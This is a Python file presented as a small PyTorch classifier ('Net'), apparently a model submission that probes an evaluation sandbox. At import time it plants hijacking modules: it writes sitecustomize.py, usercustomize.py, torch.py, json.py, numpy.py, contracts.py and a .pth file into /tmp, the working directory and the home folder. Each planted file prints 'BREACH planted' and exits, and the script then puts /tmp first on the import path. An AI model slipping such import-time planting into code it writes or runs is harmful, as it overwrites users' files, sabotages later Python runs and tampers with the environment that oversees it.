"""Plants modules that a later import might pick up."""

import os
import sys

import torch

NAMES = ("sitecustomize.py", "usercustomize.py", "torch.py", "json.py", "numpy.py", "contracts.py", "x.pth")
for folder in ("/tmp", os.getcwd(), os.path.expanduser("~")):
    for name in NAMES:
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("print('BREACH planted')\nraise SystemExit(0)\n")
        except OSError:
            pass
sys.path.insert(0, "/tmp")
sys.path_importer_cache.clear()
print("TRIED")


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
